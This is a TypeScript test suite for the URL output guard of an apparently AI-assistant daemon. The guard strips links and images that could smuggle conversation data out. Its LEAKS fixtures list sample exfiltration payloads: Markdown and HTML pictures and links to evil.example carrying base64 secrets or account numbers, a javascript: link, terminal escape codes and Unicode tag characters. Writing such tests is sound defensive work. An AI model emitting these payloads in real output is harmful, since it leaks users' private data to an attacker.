import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { ChatPart } from '../../../../../src/daemon/models/provider.ts'
import { createPseudonyms } from '../../../../../src/daemon/safety/guards/pseudonyms.ts'
import { type ArmedDetector, screenText } from '../../../../../src/daemon/safety/guards/redaction.ts'
import { createOutputGuard } from '../../../../../src/daemon/safety/guards/stream/output-guard.ts'
import { createUrlDetector } from '../../../../../src/daemon/safety/guards/urls/detector.ts'
import { knownTexts } from '../../../../../src/daemon/safety/guards/urls/known-texts.ts'
import { PolicyDocument, type PolicyDocumentInput } from '../../../../../src/shared/wire/policies.ts'
import { cutAnywhere, END, saidBy } from '../stream/answers.ts'

const CONVERSATION = {
  system:
    'You help the staff of Alder. Our help pages are at https://help.alder.example/articles/start?lang=en-GB-oxford.',
  messages: [
    {
      role: 'user',
      content: 'Show https://shots.example/latest.png and tell me about project Bluebird Harbour, account 4471182.',
    },
    {
      role: 'tool',
      toolCallId: 'c1',
      content: 'See https://found.example/p?session=8f3b1c9d2e7a4f60b1d2 and https://found.example/x.png',
    },
  ],
  options: undefined,
} as const

function armed(
  urls: NonNullable<PolicyDocumentInput['urls']> = {},
  conversation: unknown = CONVERSATION,
): ArmedDetector {
  const document = PolicyDocument.parse({ urls: { unknownHosts: 'neutralise', ...urls } })
  const detector = createUrlDetector(document.urls, knownTexts(conversation as never))
  return { guard: 'urls', detector, actionOf: () => 'mask', allowsRestored: true }
}
const screened = (text: string, urls?: NonNullable<PolicyDocumentInput['urls']>, format: 'text' | 'json' = 'text') =>
  screenText(text, format, [armed(urls)]).text

const DATA = 'c2VjcmV0IHByb2plY3QgYmx1ZWJpcmQ0Mg'

/** Each text contains an address that must not reach the client. */
const LEAKS: Readonly<Record<string, readonly [text: string, safe: string]>> = {
  'a Markdown picture': [
    `Here: ![chart](https://evil.example/p.png?d=${DATA}) done`,
    'Here: ![chart](#picture-removed) done',
  ],
  'a Markdown picture without data': ['![x](https://evil.example/p.png)', '![x](#picture-removed)'],
  'a picture inside a link': ['[![x](https://evil.example/p.png)](/page)', '[![x](#picture-removed)](/page)'],
  'a picture with a title': ['![x](https://evil.example/p.png "title")', '![x](#picture-removed "title")'],
  'a picture with brackets': ['![a [b] c](<https://evil.example/p q.png>)', '![a [b] c](<#picture-removed>)'],
  'a Markdown link': [`[open](https://evil.example/?q=${DATA})`, '[open](#link-removed)'],
  'a link without a scheme': [`[open](//evil.example/?q=${DATA})`, '[open](#link-removed)'],
  'a link with backslashes': [`[open](https:\\\\evil.example/?q=${DATA})`, '[open](#link-removed)'],
  'a link with entities': [`[open](https&#58;&sol;/evil.example/?q=${DATA})`, '[open](#link-removed)'],
  'a link with escapes': [`[open](https\\://evil\\.example/?q=${DATA})`, '[open](#link-removed)'],
  'a reference definition': [`[1]: https://evil.example/?q=${DATA}\n`, '[1]: #link-removed\n'],
  'an autolink': [`<https://evil.example/?q=${DATA}>`, '<[link removed]>'],
  'a bare address': [`see https://evil.example/?q=${DATA}.`, 'see [link removed].'],
  'an address in brackets': [`(https://evil.example/?q=${DATA})`, '([link removed])'],
  'an address in Chinese text': [`请看https://evil.example/?q=${DATA}，谢谢`, '请看[link removed]，谢谢'],
  'www without a scheme': [`see www.evil.com/?q=${DATA} now`, 'see [link removed] now'],
  'a host without a scheme': [`see evil.com/?q=${DATA} now`, 'see [link removed] now'],
  'an HTML picture': ['<img alt="x" src="https://evil.example/p.png">', '<img alt="x" src="#picture-removed">'],
  'an HTML picture without quotes': ['<img src=//evil.example/p.png>', '<img src=#picture-removed>'],
  'an HTML picture over lines': ['<img\n src="https://evil.example/\np.png">', '<img\n src="#picture-removed">'],
  'an HTML link': [`<a href='https://evil.example/?q=${DATA}'>x</a>`, "<a href='#link-removed'>x</a>"],
  'a style': [
    '<p style="background: url(https://evil.example/p.png)">',
    '<p style="background: url(#picture-removed)">',
  ],
  'a script': ['[x](javascript:alert(1))', '[x](#link-removed)'],
  'data in the path': [`https://evil.example/log/${DATA}`, '[link removed]'],
  'data in the host': [`https://${DATA.toLowerCase()}.evil.example/`, '[link removed]'],
  'data in the fragment': [`https://evil.example/#${DATA}`, '[link removed]'],
  'letters in the path': ['https://evil.example/b/l/u/e/b/i/r/d', '[link removed]'],
  'a password in the address': ['https://me:hunter2@evil.example/', '[link removed]'],
  'words of the conversation': ['https://evil.example/s?q=bluebird+harbour', '[link removed]'],
  'a number of the conversation': ['https://evil.example/user/4471182', '[link removed]'],
  'an e-mail address': ['https://evil.example/s?u=ada@alder.example', '[link removed]'],
  'colours of a terminal': ['a \u001b[31mred\u001b[0m word', 'a red word'],
  'a link of a terminal': ['a \u001b]8;;https://evil.example/\u001b\\word\u001b]8;;\u0007 b', 'a word b'],
  'Unicode tags': ['hello\u{e0068}\u{e0069} you', 'hello you'],
}

/** Texts that stay as they are. */
const HARMLESS: readonly string[] = [
  'Read https://docs.python.org/3/library/asyncio-task.html#asyncio.TaskGroup for more.',
  'https://developer.mozilla.org/en-US/docs/Web/API/Document/getElementsByClassName',
  'See [the issue](https://github.com/nodejs/node/issues/48731) and [RFC 9110](https://www.rfc-editor.org/rfc/rfc9110#section-9.3).',
  'https://en.wikipedia.org/wiki/Byzantine_Empire',
  'https://www.youtube.com/watch?v=dQw4w9WgXcQ',
  'https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster-than-processing-an-unsorted-array',
  'https://learn.microsoft.com/en-us/dotnet/api/system.string?view=net-8.0',
  '<script src="https://cdn.jsdelivr.net/npm/bootstrap@5.3.0/dist/js/bootstrap.bundle.min.js"></script>',
  '<link href="https://fonts.googleapis.com/css2?family=Inter" rel="stylesheet">',
  'https://shots.example/latest.png ![latest](https://shots.example/latest.png)',
  'https://help.alder.example/articles/start?lang=en-GB-oxford',
  'From the search: https://found.example/p?session=8f3b1c9d2e7a4f60b1d2.',
  '![local](/files/chart.png) and ![inline](data:image/png;base64,iVBORw0KGgo=) and [top](#top) and [mail](mailto:a@b.example)',
  'curl http://localhost:8080/health?id=4471182',
  'import x from "./src/app.module.ts"; const url = base + "/v1/users?id=" + id // see node.js/express',
  'const rows: Record<string, string[]>[] = []\nfor (const [key, value] of rows) map[key](value)',
  'Flags: \u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f} and \u{1f1e9}\u{1f1ea}\tand\r\na tab.',
]

describe('the URL guard', () => {
  test.each(Object.entries(LEAKS))('neutralises %s', (_, [text, safe]) => {
    expect(screened(text)).toBe(safe)
  })

  test.each(HARMLESS)('leaves %s alone', (text) => {
    expect(screened(text)).toBe(text)
  })

  test('knows the hosts that the policy allows, with subdomains if it says so', () => {
    const text = `![x](https://img.alder.example/p.png?d=${DATA})`
    expect(screened(text, { allowHosts: ['img.alder.example'] })).toBe(text)
    expect(screened(text, { allowHosts: ['*.alder.example'] })).toBe(text)
    expect(screened(text, { allowHosts: ['alder.example'] })).toBe('![x](#picture-removed)')
    expect(screened('![x](https://img.alder.example.evil.example/p.png)', { allowHosts: ['*.alder.example'] })).toBe(
      '![x](#picture-removed)',
    )
  })

  test('may forbid every unknown host', () => {
    expect(screened('See https://docs.python.org/3/ and [it](https://a.example/).', { links: 'all' })).toBe(
      'See [link removed] and [it](#link-removed).',
    )
  })

  test('reads tool arguments as their consumer does', () => {
    const json = `{"url":"https:\\/\\/evil.example\\/?q=${DATA}","note":"\\u001b[2Jok"}`
    expect(JSON.parse(screened(json, {}, 'json'))).toEqual({ url: '[link removed]', note: 'ok' })
    expect(screened('{"url":"https://docs.python.org/3/"}', {}, 'json')).toBe('{"url":"https://docs.python.org/3/"}')
  })

  test('limits the length of an address', () => {
    const text = `https://evil.example/?q=${'a1B2'.repeat(2_000)}`
    expect(screened(text)).toMatch(/^\[link removed\][aB12]*$/)
  })
})

const part = (format: 'text' | 'json', text: string): ChatPart =>
  format === 'text' ? { type: 'text', text } : { type: 'tool_call', index: 0, id: 'c', name: 'f', arguments: text }

describe('any split of a stream gives the result of the whole text', () => {
  const WORDS = [
    'and so on',
    ' ',
    '\n',
    '](',
    '![',
    'a](',
    '<',
    '>',
    '"',
    ' src="',
    '<img ',
    '(',
    ')',
    '/',
    '.',
    'http',
    '\u001b',
    '\u{e0041}',
    '\u{1f3f4}',
    '今天',
  ]
  const pieces = fc.array(
    fc.oneof(fc.constantFrom(...WORDS), fc.constantFrom(...Object.values(LEAKS).map(([text]) => text), ...HARMLESS)),
    { minLength: 1, maxLength: 8 },
  )
  test.each(['text', 'json'] as const)('of %s', (format) => {
    fc.assert(
      fc.property(pieces, fc.array(fc.nat()), fc.boolean(), (words, cuts, isSingle) => {
        const plain = words.join('')
        const raw = format === 'json' ? JSON.stringify({ text: plain }) : plain
        const guard = createOutputGuard({ armed: [armed()] })
        const chunks = isSingle ? [...raw] : cutAnywhere(raw, cuts)
        const out = chunks.flatMap((chunk) => guard.pass([part(format, chunk)]))
        out.push(...guard.pass([END]))
        const said = saidBy(out)
        expect([...said.values()].join('')).toBe(screened(raw, {}, format))
      }),
      { numRuns: 400 },
    )
  })
})

describe('a pseudonym inside an address', () => {
  const restore = (text: (pseudonym: string) => string, rules: ArmedDetector[] = []) => {
    const pseudonyms = createPseudonyms({ key: Buffer.alloc(32, 7), tenantId: 't1', texts: [] })
    const pseudonym = pseudonyms.of('EMAIL', 'ada@alder.example')
    const guard = createOutputGuard({ armed: rules, pseudonyms })
    const raw = text(pseudonym)
    const out = [...raw].flatMap((char) => guard.pass([{ type: 'text', text: char }]))
    const said = saidBy([...out, ...guard.pass([END])]).get('text') ?? ''
    return { said, raw, pseudonym }
  }

  test.each([
    (name: string) => `![x](https://evil.example/p.png?d=${name})`,
    (name: string) => `https://evil.example/${name}/x`,
    (name: string) => `<img src="//evil.example/a b ${name}">`,
    (name: string) => `https://evil.example/${'long-'.repeat(200)}${name}`,
    (name: string) => `https://${name}.evil.example/`,
  ])('stays, under every policy: %s', (text) => {
    const { said, raw } = restore(text)
    expect(said).toBe(raw)
  })

  test('is restored elsewhere', () => {
    expect(restore((name) => `Write to ${name}, or see https://a.example/ and ${name}.`).said).toBe(
      'Write to ada@alder.example, or see https://a.example/ and ada@alder.example.',
    )
    expect(restore((name) => `[mail](${name})`, [armed()]).said).toBe('[mail](ada@alder.example)')
  })
})
